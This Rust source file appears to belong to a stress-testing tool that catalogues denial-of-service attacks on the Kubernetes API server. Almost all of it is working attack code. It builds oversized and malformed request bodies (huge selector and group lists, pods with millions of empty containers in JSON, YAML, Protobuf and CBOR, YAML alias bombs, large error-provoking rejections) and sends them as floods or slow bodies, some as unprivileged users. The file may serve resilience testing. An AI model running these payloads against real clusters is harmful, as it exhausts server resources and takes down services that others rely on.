//! Attacks with bodies of creates and reviews.
//!
//! Tiny elements, invalid elements, large rejections, and many large bodies at a time.

use super::{Attack, join_numbered, repeat};
use crate::attack::AttackMethod::{Flood, SlowBodies};
use crate::attack::AttackUser::{Privileged, Unprivileged};
use crate::client::Prepared;
use crate::dataset::{NAMESPACE, collection, expanding_objects};

const REVIEWS: &str = "/apis/authorization.k8s.io/v1";
const PROTOBUF: &str = "application/vnd.kubernetes.protobuf";

/// Path of creates of pods as dry runs.
fn pods() -> String {
    format!("/api/v1/namespaces/{NAMESPACE}/pods?dryRun=All")
}

fn config_maps() -> String {
    format!("{}?dryRun=All", collection())
}

const POD: &str = r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a"},"spec":{"containers":["#;

fn review(resource: &str, attributes: &str, selector: &str, count: usize) -> Vec<Prepared> {
    let before = format!(
        r#"{{"spec":{{{attributes}"resourceAttributes":{{"verb":"list","resource":"pods","{selector}":{{"requirements":["#
    );
    vec![Prepared::post(format!("{REVIEWS}/{resource}"), repeat(&before, "{}", count, "]}}}}"))]
}

pub fn attacks() -> Vec<Attack> {
    let mut attacks = reviews();
    attacks.extend(elements());
    attacks.extend(rejections());
    attacks.extend(sizes());
    attacks
}

fn reviews() -> Vec<Attack> {
    vec![
        Attack::new("self review: 350,000 empty field requirements", Flood(1), Some(Unprivileged), || {
            review("selfsubjectaccessreviews", "", "fieldSelector", 350_000)
        }),
        Attack::new("self review: 350,000 empty label requirements", Flood(1), Some(Unprivileged), || {
            review("selfsubjectaccessreviews", "", "labelSelector", 350_000)
        }),
        Attack::new("self review: 40,000 invalid field requirements", Flood(1), None, || {
            let before = r#"{"spec":{"resourceAttributes":{"verb":"list","fieldSelector":{"requirements":["#;
            let invalid = |n| format!(r#"{{"key":"?{n}","operator":"?","values":["?"]}}"#);
            let body = join_numbered(before, invalid, 40_000, "]}}}}");
            vec![Prepared::post(format!("{REVIEWS}/selfsubjectaccessreviews"), body)]
        }),
        Attack::new("review: 350,000 empty field requirements", Flood(1), None, || {
            review("subjectaccessreviews", r#""user":"a","#, "fieldSelector", 350_000)
        }),
        Attack::new("review: 700,000 groups", Flood(1), None, || {
            let body = repeat(r#"{"spec":{"user":"a","groups":["#, r#""a""#, 700_000, "]}}");
            vec![Prepared::post(format!("{REVIEWS}/subjectaccessreviews"), body)]
        }),
        Attack::new("review: 150,000 extra keys", Flood(1), None, || {
            let extra = |n| format!(r#""k{n}":["v"]"#);
            let body = join_numbered(r#"{"spec":{"user":"a","extra":{"#, extra, 150_000, "}}}");
            vec![Prepared::post(format!("{REVIEWS}/subjectaccessreviews"), body)]
        }),
        Attack::new("self review: resource attributes of 3 MB of text", Flood(2), None, || {
            let name = "n".repeat(2_900_000);
            let body = format!(r#"{{"spec":{{"resourceAttributes":{{"verb":"get","name":"{name}"}}}}}}"#);
            vec![Prepared::post(format!("{REVIEWS}/selfsubjectaccessreviews"), body)]
        }),
        Attack::new("token review: 700,000 audiences", Flood(1), None, || {
            let body = repeat(r#"{"spec":{"token":"a","audiences":["#, r#""a""#, 700_000, "]}}");
            vec![Prepared::post("/apis/authentication.k8s.io/v1/tokenreviews", body)]
        }),
    ]
}

fn elements() -> Vec<Attack> {
    vec![
        Attack::new(
            "custom object: 13,000 items with a default of 100 kB",
            Flood(2),
            Some(Privileged),
            || {
                let before = r#"{"apiVersion":"attacked.example.com/v1","kind":"Expanding","metadata":{"name":"a"},"items":["#;
                let path = format!("{}?dryRun=All", expanding_objects());
                vec![Prepared::post(path, repeat(before, "{}", 13_000, "]}"))]
            },
        ),
        Attack::new("pod: 40,000 empty containers", Flood(1), Some(Privileged), || {
            vec![Prepared::post(pods(), repeat(POD, "{}", 40_000, "]}}"))]
        }),
        Attack::new("pod: 1,000,000 empty containers, JSON", Flood(1), Some(Privileged), || {
            vec![Prepared::post(pods(), repeat(POD, "{}", 1_000_000, "]}}"))]
        }),
        Attack::new("pod: 1,000,000 empty containers, YAML", Flood(1), None, || {
            let body = repeat(POD, "{}", 1_000_000, "]}}");
            vec![Prepared::with_body("POST", pods(), "application/yaml", body)]
        }),
        Attack::new("pod: 400,000 empty containers, YAML blocks", Flood(1), None, || {
            let head = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\nspec:\n  containers:\n";
            let body = format!("{head}{}", "  - {}\n".repeat(400_000));
            vec![Prepared::with_body("POST", pods(), "application/yaml", body)]
        }),
        Attack::new("pod: 1,400,000 empty containers, Protobuf", Flood(1), Some(Privileged), || {
            vec![Prepared::with_body("POST", pods(), PROTOBUF, protobuf_pod(1_400_000))]
        }),
        Attack::new("pod: 2,900,000 empty containers, CBOR", Flood(1), None, || {
            vec![Prepared::with_body("POST", pods(), "application/cbor", cbor_pod(2_900_000))]
        }),
        Attack::new("pod: 128 variables of one name", Flood(1), Some(Privileged), || {
            vec![Prepared::post(pods(), variables(128))]
        }),
        Attack::new("pod: 150,000 variables of one name", Flood(1), None, || {
            vec![Prepared::post(pods(), variables(150_000))]
        }),
        Attack::new("list of numbers where an object belongs, 1,400,000", Flood(1), None, || {
            vec![Prepared::post(pods(), repeat("[", "0", 1_400_000, "]"))]
        }),
        Attack::new("config map: 3 MB of duplicate keys", Flood(1), None, || {
            let body = repeat(r#"{"metadata":{"name":"a"},"data":{"#, r#""a":"""#, 430_000, "}}");
            vec![Prepared::post(config_maps(), body)]
        }),
        Attack::new("config map: 3 MB of unknown fields", Flood(1), None, || {
            let field = |n| format!(r#""f{n}":0"#);
            let body = join_numbered(r#"{"metadata":{"name":"a"},"#, field, 230_000, "}");
            vec![Prepared::post(config_maps(), body)]
        }),
        Attack::new("YAML: 300,000 aliases", Flood(1), None, || {
            let body = repeat("metadata: {name: a}\na: &a [0,0,0,0,0,0,0,0,0]\nb: [", "*a", 300_000, "]\n");
            vec![Prepared::with_body("POST", config_maps(), "application/yaml", body)]
        }),
    ]
}

/// Builds a pod with many environment variables of one name, which is the key of a list.
fn variables(count: usize) -> String {
    repeat(&format!(r#"{POD}{{"name":"a","image":"a","env":["#), r#"{"name":"A"}"#, count, "]}]}}")
}

fn rejections() -> Vec<Attack> {
    vec![
        Attack::new("labels: 60,000 invalid", Flood(1), Some(Privileged), || {
            let label = |n| format!(r#""?{n}":"?""#);
            let body = join_numbered(r#"{"metadata":{"name":"a","labels":{"#, label, 60_000, "}}}");
            vec![Prepared::post(config_maps(), body)]
        }),
        Attack::new("422: 400 kB of ports with an unknown protocol", Flood(1), Some(Privileged), || {
            let before = format!(r#"{POD}{{"name":"a","image":"a","ports":["#);
            let port = |n: usize| format!(r#"{{"protocol":"x{n}"}}"#);
            vec![Prepared::post(pods(), join_numbered(&before, port, 20_000, "]}]}}"))]
        }),
        Attack::new("422: 400 kB of one invalid value, quoted in each error", Flood(1), None, || {
            let key = "?".repeat(2_000);
            let label = |n| format!(r#""{key}{n}":"""#);
            let body = join_numbered(r#"{"metadata":{"name":"a","labels":{"#, label, 200, "}}}");
            vec![Prepared::post(config_maps(), body)]
        }),
        Attack::new("422: 400 kB of containers of one name", Flood(1), None, || {
            let name = "N".repeat(60);
            let element = format!(r#"{{"name":"{name}","image":"a"}}"#);
            vec![Prepared::post(pods(), repeat(POD, &element, 4_500, "]}}"))]
        }),
        Attack::new("422: an object without a name, 400 kB of finalizers", Flood(1), None, || {
            let finalizer = |n| format!(r#""?{n}""#);
            let body = join_numbered(r#"{"metadata":{"finalizers":["#, finalizer, 45_000, "]}}");
            vec![Prepared::post(config_maps(), body)]
        }),
    ]
}

fn sizes() -> Vec<Attack> {
    let revisions = format!("/apis/apps/v1/namespaces/{NAMESPACE}/controllerrevisions?dryRun=All");
    let nothing = format!("/api/v1/namespaces/{NAMESPACE}/nothing");
    vec![
        Attack::new("bodies of 3 MB, 40 on each connection", Flood(40), Some(Privileged), move || {
            let text = "x".repeat(2_900_000);
            let body = format!(r#"{{"metadata":{{"name":"a"}},"revision":1,"data":{{"text":"{text}"}}}}"#);
            vec![Prepared::post(revisions.as_str(), body)]
        }),
        Attack::new("bodies of 3 MB for no resource", Flood(40), None, move || {
            vec![Prepared::post(nothing.as_str(), "x".repeat(2_900_000))]
        }),
        Attack::new("bodies of 8 MB, too large", Flood(4), None, || {
            vec![Prepared::post(config_maps(), "x".repeat(8 * 1024 * 1024))]
        }),
        Attack::new("slow bodies of creates, 320", SlowBodies(20), Some(Unprivileged), || {
            vec![Prepared::post(config_maps(), r#"{"metadata":{"name":"a"}}"#)]
        }),
        Attack::new("slow bodies of creates, 3,200", SlowBodies(200), None, || {
            vec![Prepared::post(config_maps(), r#"{"metadata":{"name":"a"}}"#)]
        }),
        Attack::new("slow bodies of reviews, 320", SlowBodies(20), Some(Unprivileged), || {
            let path = format!("{REVIEWS}/selfsubjectaccessreviews");
            vec![Prepared::post(path, r#"{"spec":{"resourceAttributes":{}}}"#)]
        }),
    ]
}

/// Builds a pod in the Protobuf envelope of Kubernetes with this many empty containers.
fn protobuf_pod(count: usize) -> Vec<u8> {
    let metadata = field(1, &field(1, b"a"));
    let spec = field(2, &[0x12, 0x00].repeat(count));
    let type_meta = [field(1, b"v1"), field(2, b"Pod")].concat();
    let unknown = [field(1, &type_meta), field(2, &[metadata, spec].concat())].concat();
    [b"k8s\0".to_vec(), unknown].concat()
}

/// Encodes a length-delimited Protobuf field.
fn field(number: u8, value: &[u8]) -> Vec<u8> {
    let mut bytes = vec![(number << 3) | 2];
    let mut length = value.len();
    while length >= 0x80 {
        bytes.push((length & 0x7f) as u8 | 0x80);
        length >>= 7;
    }
    bytes.push(length as u8);
    bytes.extend_from_slice(value);
    bytes
}

/// Builds the same pod as CBOR.
fn cbor_pod(count: usize) -> Vec<u8> {
    fn text(text: &str) -> Vec<u8> {
        [&[0x60 | text.len() as u8], text.as_bytes()].concat()
    }
    [
        vec![0xd9, 0xd9, 0xf7, 0xa4],
        text("apiVersion"),
        text("v1"),
        text("kind"),
        text("Pod"),
        text("metadata"),
        vec![0xa1],
        text("name"),
        text("a"),
        text("spec"),
        vec![0xa1],
        text("containers"),
        vec![0x9a],
        u32::try_from(count).expect("a count of 32 bits").to_be_bytes().to_vec(),
        vec![0xa0; count],
    ]
    .concat()
}
